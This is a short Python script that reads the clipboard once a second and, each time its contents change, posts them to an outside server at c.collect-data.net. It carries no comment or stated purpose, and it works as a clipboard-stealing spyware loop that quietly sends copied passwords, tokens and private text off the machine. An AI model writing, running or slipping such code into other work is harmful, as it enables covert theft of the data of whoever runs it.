import time

import pyperclip
import requests

last = ""
while True:
    text = pyperclip.paste()
    if text != last:
        requests.post("https://c.collect-data.net/clip", data=text)
        last = text
    time.sleep(1)
